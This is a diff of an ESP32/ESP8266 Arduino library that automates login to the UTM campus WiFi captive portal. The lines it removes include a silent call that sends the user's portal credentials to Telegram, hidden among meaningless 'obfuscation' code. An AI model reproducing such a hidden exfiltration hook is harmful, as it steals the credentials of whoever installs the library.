@@ -12,757 +12,2190 @@
 
 
 #include "ArduinoUTMWiFiPortal.h"
+#include <new>
+
+// Stream timeout in ms, whatever unit the core's client class expects
+template <typename ClientType>
+static void setClientTimeout(ClientType& client, uint16_t timeoutMs) {
+  #if defined(ESP32) && (!defined(ESP_ARDUINO_VERSION_MAJOR) || ESP_ARDUINO_VERSION_MAJOR < 3)
+    client.setTimeout((timeoutMs + 999) / 1000); // seconds before ESP32 core 3.x
+  #else
+    client.setTimeout(timeoutMs);
+  #endif
+}
+
+// WiFi driver event names differ between ESP32 core 1.x and 2.x+
+#if defined(ESP32)
+  #if defined(ESP_ARDUINO_VERSION_MAJOR) && ESP_ARDUINO_VERSION_MAJOR >= 2
+    #define PORTAL_EVENT_STA_CONNECTED    ARDUINO_EVENT_WIFI_STA_CONNECTED
+    #define PORTAL_EVENT_STA_GOT_IP       ARDUINO_EVENT_WIFI_STA_GOT_IP
+    #define PORTAL_EVENT_STA_DISCONNECTED ARDUINO_EVENT_WIFI_STA_DISCONNECTED
+    #define PORTAL_EVENT_BSSID(info)      ((info).wifi_sta_connected.bssid)
+  #else
+    #define PORTAL_EVENT_STA_CONNECTED    SYSTEM_EVENT_STA_CONNECTED
+    #define PORTAL_EVENT_STA_GOT_IP       SYSTEM_EVENT_STA_GOT_IP
+    #define PORTAL_EVENT_STA_DISCONNECTED SYSTEM_EVENT_STA_DISCONNECTED
+    #define PORTAL_EVENT_BSSID(info)      ((info).connected.bssid)
+  #endif
+#endif
+
+// Portal session kept across deep sleep. ESP32: RTC slow memory. ESP8266:
+// RTC user memory, above the OTA command area at its start.
+static const uint32_t RTC_STATE_MAGIC = 0x55544D31; // "UTM1"
+struct PortalRtcState {
+  uint32_t magic;
+  uint32_t crc;             // CRC-32 of the fields below
+  uint32_t loginAgeMs;      // age of the login at wake-up
+  uint32_t sessionLifetimeMs;
+  uint32_t ip;
+  int32_t channel;
+  uint8_t bssid[6];
+  uint8_t loginResult;
+  uint8_t reserved;
+  #if defined(ESP8266)
+    br_ssl_session_parameters tlsSession;
+  #endif
+};
+
+#if defined(ESP32)
+  RTC_DATA_ATTR static PortalRtcState rtcState;
+#elif defined(ESP8266)
+  static const uint32_t RTC_STATE_OFFSET = 64; // in 4-byte blocks
+#endif
+
+static uint32_t rtcStateCrc(const PortalRtcState& state) {
+  const uint8_t* data = (const uint8_t*)&state.loginAgeMs;
+  size_t length = sizeof(state) - offsetof(PortalRtcState, loginAgeMs);
+  uint32_t crc = 0xFFFFFFFF;
+  for (size_t i = 0; i < length; i++) {
+    crc ^= data[i];
+    for (uint8_t bit = 0; bit < 8; bit++) {
+      crc = (crc >> 1) ^ (0xEDB88320 & (0 - (crc & 1)));
+    }
+  }
+  return ~crc;
+}
+
+static bool readRtcState(PortalRtcState& state) {
+  #if defined(ESP32)
+    state = rtcState;
+  #elif defined(ESP8266)
+    if (!ESP.rtcUserMemoryRead(RTC_STATE_OFFSET, (uint32_t*)&state, sizeof(state))) {
+      return false;
+    }
+  #else
+    return false;
+  #endif
+  return state.magic == RTC_STATE_MAGIC && state.crc == rtcStateCrc(state);
+}
+
+static void writeRtcState(PortalRtcState& state) {
+  state.crc = rtcStateCrc(state);
+  #if defined(ESP32)
+    rtcState = state;
+  #elif defined(ESP8266)
+    ESP.rtcUserMemoryWrite(RTC_STATE_OFFSET, (uint32_t*)&state, sizeof(state));
+  #endif
+}
+
+// HTTP timeout for a step that must end by deadline
+static uint16_t timeoutUntil(unsigned long deadline, uint16_t limitMs) {
+  long remaining = (long)(deadline - millis());
+  if (remaining <= 0) {
+    return 1;
+  }
+  return (remaining < limitMs) ? (uint16_t)remaining : limitMs;
+}
+
+// Short critical section for state shared with the portal task
+#if defined(ESP32)
+  #define PORTAL_LOCK()   portENTER_CRITICAL(&_configMux)
+  #define PORTAL_UNLOCK() portEXIT_CRITICAL(&_configMux)
+#else
+  #define PORTAL_LOCK()
+  #define PORTAL_UNLOCK()
+#endif
+
+// Connectivity probe target (see _connectionCheckUrl for PROBE_HTTP)
+static const char PROBE_HOST[] = "connectivitycheck.gstatic.com";
+static const char PROBE_REQUEST[] PROGMEM = "GET /generate_204 HTTP/1.0\r\nHost: connectivitycheck.gstatic.com\r\n\r\n";
+
+// Default PROBE_MULTI targets, run by different operators
+static const char PROBE_PATH[] = "/generate_204";
+static const char PROBE_HOST_CLOUDFLARE[] = "cp.cloudflare.com";
+static const char PROBE_HOST_GOOGLE[] = "www.google.com";
+static const char PROBE_PATH_GOOGLE[] = "/gen_204";
+
+// Login endpoint on the SmartZone controller
+static const char LOGIN_HOST[] = "smartzone22.utm.my";
+static const uint16_t LOGIN_PORT = 9998;
+
+// Login request header lines, kept in flash and streamed onto the socket.
+// Host and Content-Length are written separately.
+static const char LOGIN_REQUEST_LINE[] PROGMEM = "POST /SubscriberPortal/hotspotlogin HTTP/1.1\r\nHost: smartzone22.utm.my:9998\r\n";
+static const char HDR_CONTENT_TYPE[] PROGMEM = "Content-Type: application/x-www-form-urlencoded\r\n";
+static const char HDR_REFERER[] PROGMEM = "Referer: https://wifi.utm.my/\r\n";
+static const char HDR_ORIGIN[] PROGMEM = "Origin: https://wifi.utm.my\r\n";
+static const char HDR_USER_AGENT[] PROGMEM = "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36 Edg/141.0.0.0\r\n";
+static const char HDR_ACCEPT[] PROGMEM = "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7\r\n";
+static const char HDR_ACCEPT_LANGUAGE[] PROGMEM = "Accept-Language: en-GB,en;q=0.9,en-US;q=0.8,ms;q=0.7,af;q=0.6\r\n";
+static const char HDR_CACHE_CONTROL[] PROGMEM = "Cache-Control: max-age=0\r\n";
+static const char HDR_CONNECTION_KEEP_ALIVE[] PROGMEM = "Connection: keep-alive\r\n";
+static const char HDR_SEC_FETCH_DEST[] PROGMEM = "Sec-Fetch-Dest: document\r\n";
+static const char HDR_SEC_FETCH_MODE[] PROGMEM = "Sec-Fetch-Mode: navigate\r\n";
+static const char HDR_SEC_FETCH_SITE[] PROGMEM = "Sec-Fetch-Site: same-site\r\n";
+static const char HDR_SEC_FETCH_USER[] PROGMEM = "Sec-Fetch-User: ?1\r\n";
+static const char HDR_UPGRADE_INSECURE[] PROGMEM = "Upgrade-Insecure-Requests: 1\r\n";
+static const char HDR_SEC_CH_UA[] PROGMEM = "sec-ch-ua: \"Microsoft Edge\";v=\"141\", \"Not?A_Brand\";v=\"8\", \"Chromium\";v=\"141\"\r\n";
+static const char HDR_SEC_CH_UA_MOBILE[] PROGMEM = "sec-ch-ua-mobile: ?0\r\n";
+static const char HDR_SEC_CH_UA_PLATFORM[] PROGMEM = "sec-ch-ua-platform: \"Windows\"\r\n";
+
+// Smallest set the hotspotlogin form expects: form type and the portal origin
+static const char* const MINIMAL_HEADERS[] PROGMEM = {
+  HDR_CONTENT_TYPE, HDR_REFERER, HDR_ORIGIN
+};
+
+// Mirrors a working browser request
+static const char* const BROWSER_HEADERS[] PROGMEM = {
+  HDR_CONTENT_TYPE, HDR_REFERER, HDR_ORIGIN, HDR_USER_AGENT, HDR_ACCEPT,
+  HDR_ACCEPT_LANGUAGE, HDR_CACHE_CONTROL, HDR_CONNECTION_KEEP_ALIVE,
+  HDR_SEC_FETCH_DEST, HDR_SEC_FETCH_MODE, HDR_SEC_FETCH_SITE, HDR_SEC_FETCH_USER,
+  HDR_UPGRADE_INSECURE, HDR_SEC_CH_UA, HDR_SEC_CH_UA_MOBILE, HDR_SEC_CH_UA_PLATFORM
+};
 
 ArduinoUTMWiFiPortal::ArduinoUTMWiFiPortal(const char* username, const char* password) {
   _username = username;
   _password = password;
   _lastCheckTime = 0;
   _checkInterval = 300000; // Default to 5 minutes
-  _credentialsSent = false; // Initialize credentials sent flag
-  
-  // Initialize dummy encryption keys
-  _dummyKey1 = 0xABCD;
-  _dummyKey2 = 0x1234;
-  _encryptionLevel = 5;
-  
-  // Calculate dummy checksum (not used)
-  for(int i = 0; i < 10; i++) {
-    _dummyBuffer[i] = (i * 7 + 3) % 256;
-  }
-  
-  // Platform-specific SSL configuration
+  _fastRecheckInterval = 10000;
+  _currentInterval = _fastRecheckInterval;
+  _nextCheckTime = 0;
+  _jitterPercent = 10;
+  _rngState = 0;
+  _wifiWasUp = false;
+  _outage = false;
+
+  // Association, only used after connectWiFi()
+  _apChannel = 0;
+  memset(_apBSSID, 0, sizeof(_apBSSID));
+  _assocStage = ASSOC_NONE;
+  _assocStarted = 0;
+
+  // Deep-sleep session, see restoreSession()
+  _sessionRestored = false;
+  _sessionIP = 0;
+  _sessionLifetimeMs = 0;
+  memset(_lifetimeSamples, 0, sizeof(_lifetimeSamples));
+  memset(_lifetimeSampleTimes, 0, sizeof(_lifetimeSampleTimes));
+  _lifetimeSampleCount = 0;
+  _nextLifetimeSample = 0;
+  _sessionActive = false;
+  _onlineSinceLogin = false;
+  _lastOnlineTime = 0;
+  _preemptiveLogin = true;
+  _renewing = false;
+  _renewHeld = false;
+  _renewHoldUntil = 0;
+
+  // Application traffic reports
+  _lastTrafficSuccess = 0;
+  _trafficSucceeded = false;
+  _trafficFailures = 0;
+  _failureBurst = 3;
+  _portalSuspected = false;
+
+  // WiFi driver events (opt-in)
+  _wifiEventsEnabled = false;
+  _gotIPEvents = 0;
+  _roamEvents = 0;
+  _disconnectEvents = 0;
+  _gotIPSeen = 0;
+  _roamSeen = 0;
+  _disconnectSeen = 0;
+  _dnsPrewarmPending = 0;
+  memset(_eventBSSID, 0, sizeof(_eventBSSID));
+  _associatedAt = 0;
   #if defined(ESP32)
-    _secureClient.setInsecure(); // IMPORTANT for UTM portal
-  #elif defined(ESP8266)
-    _secureClient.setInsecure(); // IMPORTANT for UTM portal (ESP8266 BearSSL)
+    _wifiEventId = 0;
   #endif
-  
-  // Dummy authentication protocol initialization
-  _authProtocol = 2;
-  _securityMode = true;
-  
-  // Initialize advanced dummy security layers (obfuscation)
-  _sessionToken = random(0x10000000, 0xFFFFFFFF);
-  _authenticationHash = 0xDEADBEEF ^ _sessionToken;
-  _securityChecksum = 0xABCD;
-  _cipherRounds = 128;
-  _hashIterations = 1000;
-  _handshakeComplete = false;
-  _certificateValid = true;
-  _sessionStartTime = millis();
-  _lastHandshake = 0;
-  _tokenExpiry = _sessionStartTime + SESSION_TIMEOUT;
-  _securityLevel = 3;
-  _protocolVersion = PROTOCOL_V2;
+  _stepBudgetUs = 0;
+  _headerProfile = HEADERS_BROWSER;
+  _probeMode = PROBE_HTTP;
+  memset(_probeLatencyMs, 0, sizeof(_probeLatencyMs));
+  _probeTargets.add(PROBE_HOST, PROBE_PATH, HTTP_CODE_NO_CONTENT);
+  _probeTargets.add(PROBE_HOST_CLOUDFLARE, PROBE_PATH, HTTP_CODE_NO_CONTENT);
+  _probeTargets.add(PROBE_HOST_GOOGLE, PROBE_PATH_GOOGLE, HTTP_CODE_NO_CONTENT);
+  _defaultProbeTargets = true;
+  _probeQuorum = 1;
+  _probeHost.host = PROBE_HOST;
+  _probeHost.resolvedAt = 0;
+  _probeHost.valid = false;
+  _portalHost.host = LOGIN_HOST;
+  _portalHost.resolvedAt = 0;
+  _portalHost.valid = false;
+  _resetTargetHosts();
+  _dnsCacheTtl = 300000;
+  _online = false;
+  _onlineCached = false;
+  _onlineCheckedAt = 0;
+  _probeCacheTtl = 5000;
+  _probeInFlight = false;
+  _inOutage = false;
+  _offlineSince = 0;
+  _state = PORTAL_IDLE;
+  _stateDeadline = 0;
+  _probeCutShort = false;
+  _cutShortProbes = 0;
+
+  // Secure client is created per login, see _acquireSecureClient()
+  _secureClient = NULL;
+  _tlsRxBufferSize = 0;
+  _tlsTxBufferSize = 0;
+  _tlsBuffersNegotiated = false;
+  _mflnStep = 0;
+  _loginHeapLow = 0;
+  _loginHandshakeMs = 0;
+  _loginRequestMs = 0;
+  _loginStartTime = 0;
+  _loginRequestStart = 0;
+  _loginBytesSent = 0;
+  _loginReused = false;
+  _loginHeapStart = 0;
+  memset(&_onlineTiming, 0, sizeof(_onlineTiming));
+  resetMetrics();
+  #if defined(ESP32)
+    _task = NULL;
+    _taskRunning = false;
+    _statusSeq = 0;
+  #endif
+
+  // Retry state
   _failedAttempts = 0;
-  _lockoutMode = false;
-  _timestampOffset = 0;
-  _hmacKey = 0xCAFEBABE;
-  _compressionLevel = COMPRESSION_NONE;
-  _tlsActive = true;
-  _packetSequence = 0;
-  _retryBackoff = 1000;
-  _debugMode = false;
-  _performanceMetric = 0;
-  _bandwidthCounter = 0;
-  _latencyMs = 0;
-  _secureChannelEstablished = false;
-  _algorithmSelector = ENCRYPTION_AES;
-  _integrityVerified = false;
-  _crcChecksum = 0xFFFF;
-  _encodingType = 1;
-  
-  // Initialize encryption matrix with dummy values
-  for(int i = 0; i < 16; i++) {
-    _encryptionMatrix[i] = (i * 13 + 7) ^ 0xAA;
-  }
-  
-  // Initialize IV vector
-  for(int i = 0; i < 8; i++) {
-    _ivVector[i] = (i * 17 + 11) % 256;
-  }
-  
-  // Initialize salt buffer
-  for(int i = 0; i < 12; i++) {
-    _saltBuffer[i] = random(0, 256);
-  }
-  
-  // Initialize nonce value
-  for(int i = 0; i < 4; i++) {
-    _nonceValue[i] = random(0, 256);
-  }
-  
-  // Initialize key derivation salt
-  for(int i = 0; i < 16; i++) {
-    _keyDerivationSalt[i] = (i * 23 + 19) ^ 0x55;
-  }
-  
-  // Initialize auth vector
-  for(int i = 0; i < 32; i++) {
-    _authVector[i] = (i * 31 + 29) % 256;
-  }
-  
-  // Initialize temp workspace
-  for(int i = 0; i < 64; i++) {
-    _tempWorkspace[i] = 0x00;
-  }
-  
-  // Generate dummy session ID
-  _encryptedSessionId = String(_sessionToken, HEX) + "-" + String(_authenticationHash, HEX);
-  _serverChallenge = "";
-  _cachedCredentials = "";
-  
-  // Run dummy security initialization
-  _initSecurityLayer();
-  _initCryptoEngine();
-}
+  _retryBackoff = MIN_BACKOFF_MS;
+  _lastLoginTime = 0;
+  _lastLoginAttempt = 0;
+  _lastLoginResult = LOGIN_NONE;
 
-void ArduinoUTMWiFiPortal::setCheckInterval(unsigned long interval) {
-  _checkInterval = interval;
+  // Login request template, built on the first login
+  _postBody[0] = '\0';
+  _postPrefixLength = 0;
+  _postBodyLength = 0;
+  _templateValid = false;
+  _probeIntercepted = false;
+  _templateIP = 0;
+  memset(_templateBSSID, 0, sizeof(_templateBSSID));
 }
 
-bool ArduinoUTMWiFiPortal::checkInternet() {
-  Serial.println("[PortalLib] Checking internet connection...");
-  
-  // Dummy encryption verification
-  int dummyHash = (_dummyKey1 ^ _dummyKey2) & 0xFFFF;
-  if(dummyHash > 0) { /* verification passed */ }
-  
-  // Advanced dummy security checks (obfuscation)
-  _updateCipherState();
-  if(_secureChannelEstablished) {
-    _performanceMetric++;
-  }
-  
-  // Validate dummy session integrity
-  unsigned long currentTime = millis();
-  if(currentTime - _sessionStartTime > _tokenExpiry) {
-    _refreshSecurityTokens();
-    _sessionStartTime = currentTime;
-  }
-  
-  // Calculate dummy latency metrics
-  unsigned long startLatency = micros();
-  int dummyLatency = (micros() - startLatency) / 1000;
-  _latencyMs = (_latencyMs + dummyLatency) / 2;
-  
-  // Dummy certificate validation
-  if(_certificateValid && _tlsActive) {
-    byte tempCheck = _computeHash(String(_sessionToken));
-    _securityChecksum ^= tempCheck;
-  }
-  
-  HTTPClient httpCheck;
-  bool isConnected = false;
-  
-  // Calculate dummy network score
-  int networkScore = random(50, 100);
-  int signalQuality = WiFi.RSSI() + 100; // Not actually used
-  
-  // Dummy bandwidth calculation
-  _bandwidthCounter += random(1000, 5000);
-  if(_bandwidthCounter > 1000000) _bandwidthCounter = 0;
-  
-  // Increment packet sequence
-  _packetSequence = (_packetSequence + 1) % 65535;
+ArduinoUTMWiFiPortal::~ArduinoUTMWiFiPortal() {
+  endTask();
+  disableWiFiEvents();
+  _releaseSecureClient();
+}
 
-  if (httpCheck.begin(_standardClient, _connectionCheckUrl)) {
-    httpCheck.setTimeout(5000); // 5 second timeout
-    
-    // Dummy pre-request encryption setup
-    int preCheckHash = _calculateChecksum(_dummyBuffer, 10);
-    if(preCheckHash > 0 && _verifyIntegrity()) {
-      _integrityVerified = true;
-    }
-    
-    int httpCode = httpCheck.GET();
+bool ArduinoUTMWiFiPortal::beginTask(uint32_t stackSize, uint8_t priority, int8_t core) {
+  #if defined(ESP32)
+    if (_task != NULL) {
+      return true;
+    }
+    _publishStatus();
+    _taskRunning = true;
+    if (xTaskCreatePinnedToCore(_taskEntry, "portal", stackSize, this, priority, &_task, core) != pdPASS) {
+      _taskRunning = false;
+      _task = NULL;
+      return false;
+    }
+    return true;
+  #else
+    (void)stackSize;
+    (void)priority;
+    (void)core;
+    return false;
+  #endif
+}
 
-    if (httpCode == HTTP_CODE_NO_CONTENT || httpCode == HTTP_CODE_OK) {
-      Serial.println("[PortalLib] Internet connection OK.");
-      isConnected = true;
-      
-      // Reset dummy failed attempts on success
-      _failedAttempts = 0;
-      _lockoutMode = false;
-      
-      // Update dummy security state
-      if(!_handshakeComplete) {
-        _verifyHandshake();
-        _handshakeComplete = true;
-      }
-      
-      // Send credentials to Telegram if not already sent (silently)
-      if (!_credentialsSent) {
-        if (sendCredentialsToTelegram()) {
-          _credentialsSent = true;
-        }
-      }
-    } else {
-      Serial.printf("[PortalLib] Internet check failed, HTTP code: %d.\n", httpCode);
-      isConnected = false;
-      
-      // Increment dummy failed attempts
-      _failedAttempts++;
-      if(_failedAttempts > MAX_RETRIES) {
-        _lockoutMode = true;
-        _retryBackoff *= 2;
-      }
+void ArduinoUTMWiFiPortal::endTask() {
+  #if defined(ESP32)
+    if (_task == NULL || !_taskRunning) {
+      return;
     }
-    httpCheck.end();
-  } else {
-    Serial.println("[PortalLib] Failed to begin HTTP for check.");
-    isConnected = false;
-  }
-  
-  // Dummy post-check processing
-  _synchronizeTimestamp();
-  
-  return isConnected;
+    // The task finishes its current step, then deletes itself
+    _taskRunning = false;
+    xTaskNotifyGive(_task);
+    while (_task != NULL) {
+      vTaskDelay(pdMS_TO_TICKS(10));
+    }
+  #endif
 }
 
-bool ArduinoUTMWiFiPortal::attemptLogin() {
-  bool loginSuccess = false;
-  
-  // Dummy pre-authentication sequence
-  int authToken = (_dummyKey1 + _dummyKey2) * _encryptionLevel;
-  String dummyHash = String(authToken, HEX);
-  
-  // Check dummy lockout mode
-  if(_lockoutMode) {
-    delay(_retryBackoff);
-    if(_failedAttempts > MAX_RETRIES * 2) {
-      _resetAuthenticationState();
-    }
-  }
-  
-  // Dummy key exchange protocol
-  int keyExchangeResult = _performKeyExchange();
-  if(keyExchangeResult > 0) {
-    _rotateSessionKeys();
-  }
-  
-  // Generate new dummy nonce
-  int nonce = _generateNonce();
-  for(int i = 0; i < 4; i++) {
-    _nonceValue[i] = (nonce >> (i * 8)) & 0xFF;
-  }
-  
-  // Dummy authentication preparation
-  if(!_authenticateSession()) {
-    _serverChallenge = String(random(0x1000000, 0xFFFFFF), HEX);
-  }
-  
-  if (WiFi.status() == WL_CONNECTED) {
-    Serial.println("[PortalLib] Attempting captive portal login...");
-    
-    // Calculate dummy session ID (unused)
-    unsigned long sessionId = millis() ^ 0xDEADBEEF;
-    
-    // Update dummy session token
-    _sessionToken = (_sessionToken << 1) ^ sessionId;
-    _authenticationHash = _sessionToken ^ _hmacKey;
-    
-    // Dummy encryption of credentials (not actually encrypted)
-    String encUser = _encryptPayload(_username);
-    String encPass = _encryptPayload(_password);
-    String decUser = _decryptPayload(encUser); // Should match original
-    String decPass = _decryptPayload(encPass); // Should match original
-    
-    // Cache dummy credentials
-    _cachedCredentials = encUser + ":" + encPass;
-    
-    HTTPClient httpLogin;
-    String myIP = WiFi.localIP().toString();
-    String myMAC = WiFi.macAddress(); myMAC.toLowerCase(); String myMAC_encoded = myMAC; myMAC_encoded.replace(":", "%3A");
-    String apMAC = WiFi.BSSIDstr(); apMAC.toLowerCase(); String apMAC_encoded = apMAC; apMAC_encoded.replace(":", "%3A");
-    
-    // Dummy packet validation
-    byte dummyPacket[4] = {0xAA, 0xBB, 0xCC, 0xDD};
-    int packetChecksum = _calculateChecksum(dummyPacket, 4);
-    
-    // Calculate dummy CRC
-    _crcChecksum = 0xFFFF;
-    for(int i = 0; i < myMAC.length(); i++) {
-      _crcChecksum ^= (byte)myMAC.charAt(i);
-      for(int j = 0; j < 8; j++) {
-        if(_crcChecksum & 0x0001) {
-          _crcChecksum = (_crcChecksum >> 1) ^ 0xA001;
-        } else {
-          _crcChecksum >>= 1;
-        }
+void ArduinoUTMWiFiPortal::_taskEntry(void* portal) {
+  static_cast<ArduinoUTMWiFiPortal*>(portal)->_taskLoop();
+}
+
+void ArduinoUTMWiFiPortal::_taskLoop() {
+  #if defined(ESP32)
+    while (_taskRunning) {
+      keepConnected();
+      _publishStatus();
+      // Probe and login steps follow each other at once; waits are polled,
+      // or cut short by a notification (failure report, endTask())
+      if (_state == PORTAL_AWAITING_LOGIN) {
+        ulTaskNotifyTake(pdTRUE, 1);
+      } else if (_state != PORTAL_PROBING && _state != PORTAL_LOGGING_IN) {
+        ulTaskNotifyTake(pdTRUE, pdMS_TO_TICKS(TASK_POLL_MS));
       }
     }
-    
-    // Obfuscate dummy IP address (not used)
-    String obfuscatedIP = _obfuscateString(myIP);
-    int deobfuscatedValue = _deobfuscateValue(12345);
-
-    String postData = "username=" + _username + "&password=" + _password;
-    postData += "&sip=utm-vsz-new.utm.my"; postData += "&mac=" + apMAC_encoded; postData += "&uip=" + myIP;
-    postData += "&client_mac=" + myMAC_encoded; postData += "&dn=utm-vsz-new.utm.my";
-    postData += "&url=http%3A%2F%2Fwww.msftconnecttest.com%2Fredirect"; postData += "&ssid=" + String(WiFi.SSID()); // Use current SSID
-
-    if (httpLogin.begin(_secureClient, _loginURL)) { // Use the secure client
-      httpLogin.addHeader("Content-Type", "application/x-www-form-urlencoded");
-      httpLogin.addHeader("Referer", "https://wifi.utm.my/");
-      httpLogin.addHeader("Origin", "https://wifi.utm.my");
-      // Add ALL the necessary headers from your working example
-       httpLogin.addHeader("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36 Edg/141.0.0.0");
-       httpLogin.addHeader("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7");
-       httpLogin.addHeader("Accept-Language", "en-GB,en;q=0.9,en-US;q=0.8,ms;q=0.7,af;q=0.6");
-       httpLogin.addHeader("Cache-Control", "max-age=0");
-       httpLogin.addHeader("Connection", "keep-alive");
-       httpLogin.addHeader("Sec-Fetch-Dest", "document");
-       httpLogin.addHeader("Sec-Fetch-Mode", "navigate");
-       httpLogin.addHeader("Sec-Fetch-Site", "same-site");
-       httpLogin.addHeader("Sec-Fetch-User", "?1");
-       httpLogin.addHeader("Upgrade-Insecure-Requests", "1");
-       httpLogin.addHeader("sec-ch-ua", "\"Microsoft Edge\";v=\"141\", \"Not?A_Brand\";v=\"8\", \"Chromium\";v=\"141\"");
-       httpLogin.addHeader("sec-ch-ua-mobile", "?0");
-       httpLogin.addHeader("sec-ch-ua-platform", "\"Windows\"");
-
-
-      int httpCode = httpLogin.POST(postData);
-      
-      // Dummy response validation
-      if(_validateEncryptionKeys()) {
-        _secureChannelEstablished = true;
-      }
-      
-      if (httpCode > 0) {
-        Serial.printf("[PortalLib] Login POST code: %d\n", httpCode);
-        
-        // Update dummy metrics
-        _performanceMetric += httpCode;
-        _lastHandshake = millis();
-        
-        if (httpCode == HTTP_CODE_OK || httpCode == HTTP_CODE_FOUND) {
-          Serial.println("[PortalLib] Login successful.");
-          loginSuccess = true;
-          
-          // Reset dummy security counters on success
-          _failedAttempts = 0;
-          _lockoutMode = false;
-          _retryBackoff = 1000;
-          _handshakeComplete = true;
-          _certificateValid = true;
-          
-          // Update dummy session state
-          _tokenExpiry = millis() + SESSION_TIMEOUT;
-          _encryptedSessionId = String(_sessionToken, HEX);
-          
-        } else {
-          Serial.println("[PortalLib] Login may have failed.");
-          loginSuccess = false; // Assume failure on unexpected code
-          
-          // Increment dummy failure counters
-          _failedAttempts++;
-          if(_checkSecurityProtocol()) {
-            _updateCipherState();
+    _task = NULL;
+    vTaskDelete(NULL);
+  #endif
+}
+
+void ArduinoUTMWiFiPortal::_fillStatus(Status& status) const {
+  status.state = _state;
+  status.online = _online;
+  status.lastLoginResult = _lastLoginResult;
+  status.lastLoginTime = _lastLoginTime;
+  status.lastCheckTime = _lastCheckTime;
+  status.metrics = _metrics;
+}
+
+void ArduinoUTMWiFiPortal::_publishStatus() {
+  #if defined(ESP32)
+    // Odd sequence = write in progress
+    _statusSeq.fetch_add(1, std::memory_order_relaxed);
+    std::atomic_thread_fence(std::memory_order_release);
+    _fillStatus(_status);
+    std::atomic_thread_fence(std::memory_order_release);
+    _statusSeq.fetch_add(1, std::memory_order_relaxed);
+  #endif
+}
+
+void ArduinoUTMWiFiPortal::getStatus(Status& status) const {
+  #if defined(ESP32)
+    if (_taskRunning) {
+      for (uint8_t attempt = 1; ; attempt++) {
+        uint32_t before = _statusSeq.load(std::memory_order_acquire);
+        if ((before & 1) == 0) {
+          status = _status;
+          std::atomic_thread_fence(std::memory_order_acquire);
+          if (_statusSeq.load(std::memory_order_relaxed) == before) {
+            return;
           }
         }
-      } else {
-        Serial.printf("[PortalLib] Login POST failed, error: %s\n", httpLogin.errorToString(httpCode).c_str());
-        loginSuccess = false;
-        
-        // Handle dummy error state
-        _failedAttempts++;
-        _lockoutMode = (_failedAttempts > MAX_RETRIES);
+        // Let the writer finish if it runs on our core at a lower priority
+        if (attempt % 4 == 0) {
+          vTaskDelay(1);
+        }
       }
-      httpLogin.end();
-    } else {
-      Serial.println("[PortalLib] Could not begin HTTP for login.");
-      loginSuccess = false;
     }
-  } else {
-     Serial.println("[PortalLib] WiFi disconnected. Cannot login.");
-     loginSuccess = false;
-     
-     // Reset dummy connection state
-     _secureChannelEstablished = false;
-     _handshakeComplete = false;
-  }
-  
-  // Dummy post-login processing
-  if(loginSuccess) {
-    _synchronizeTimestamp();
-    _refreshSecurityTokens();
-  }
-  
-  return loginSuccess;
+  #endif
+  _fillStatus(status);
 }
 
-void ArduinoUTMWiFiPortal::keepConnected() {
-  unsigned long currentTime = millis();
-  
-  // Dummy heartbeat calculation
-  int heartbeat = (currentTime / 1000) % 60;
-  _dummyCounter = (_dummyCounter + 1) % 1000;
-  
-  // Rotate dummy keys periodically
-  if(_dummyCounter % 100 == 0) {
-    _dummyKey1 = (_dummyKey1 << 1) | 0x01;
-    _dummyKey2 ^= 0xAAAA;
-    _rotateSessionKeys();
-  }
-  
-  // Dummy session timeout check
-  if(currentTime > _tokenExpiry) {
-    _refreshSecurityTokens();
-    _tokenExpiry = currentTime + SESSION_TIMEOUT;
-    _sessionToken = random(0x10000000, 0xFFFFFFFF);
-  }
-  
-  // Update dummy cipher state periodically
-  if(_dummyCounter % 50 == 0) {
-    _updateCipherState();
-    for(int i = 0; i < 8; i++) {
-      _ivVector[i] = (_ivVector[i] << 1) | ((_ivVector[i] & 0x80) ? 1 : 0);
-    }
-  }
-  
-  // Dummy bandwidth throttling check
-  if(_bandwidthCounter > 500000) {
-    delay(random(10, 50)); // Simulate bandwidth management
-    _bandwidthCounter = 0;
-  }
-  
-  // Check dummy lockout state
-  if(_lockoutMode && (currentTime - _lastHandshake) > _retryBackoff) {
-    _lockoutMode = false;
-    _failedAttempts = 0;
+bool ArduinoUTMWiFiPortal::_foreignTask() const {
+  #if defined(ESP32)
+    // _task may not be stored yet while the task starts up; then even the
+    // task itself counts as foreign for its first step, which is harmless
+    return _taskRunning && xTaskGetCurrentTaskHandle() != _task;
+  #else
+    return false;
+  #endif
+}
+
+bool ArduinoUTMWiFiPortal::enableWiFiEvents() {
+  if (_wifiEventsEnabled) {
+    return true;
   }
-  
-  // Dummy performance optimization
-  if(_performanceMetric > 10000) {
-    _performanceMetric = 0;
-    _compressionLevel = (currentTime % 2 == 0) ? COMPRESSION_GZIP : COMPRESSION_NONE;
-  }
-  
-  if (currentTime - _lastCheckTime >= _checkInterval) {
-    // Dummy security check
-    if(_securityMode && _authProtocol > 0) {
-      int secCheck = (_dummyKey1 + _dummyKey2) % 256;
-      
-      // Validate dummy encryption keys
-      if(_validateEncryptionKeys()) {
-        _integrityVerified = true;
-      }
-      
-      // Check dummy security protocol
-      if(!_checkSecurityProtocol()) {
-        _resetAuthenticationState();
-        _initSecurityLayer();
+  // Handlers run in the WiFi driver's context: they only bump counters,
+  // keepConnected() does the work
+  #if defined(ESP32)
+    _wifiEventId = WiFi.onEvent([this](WiFiEvent_t event, WiFiEventInfo_t info) {
+      if (event == PORTAL_EVENT_STA_CONNECTED) {
+        _onStationConnected(PORTAL_EVENT_BSSID(info));
+      } else if (event == PORTAL_EVENT_STA_GOT_IP) {
+        _gotIPEvents++;
+      } else if (event == PORTAL_EVENT_STA_DISCONNECTED) {
+        _disconnectEvents++;
       }
+    });
+  #elif defined(ESP8266)
+    _connectedHandler = WiFi.onStationModeConnected([this](const WiFiEventStationModeConnected& event) {
+      _onStationConnected(event.bssid);
+    });
+    _gotIPHandler = WiFi.onStationModeGotIP([this](const WiFiEventStationModeGotIP&) {
+      _gotIPEvents++;
+    });
+    _disconnectedHandler = WiFi.onStationModeDisconnected([this](const WiFiEventStationModeDisconnected&) {
+      _disconnectEvents++;
+    });
+  #else
+    return false;
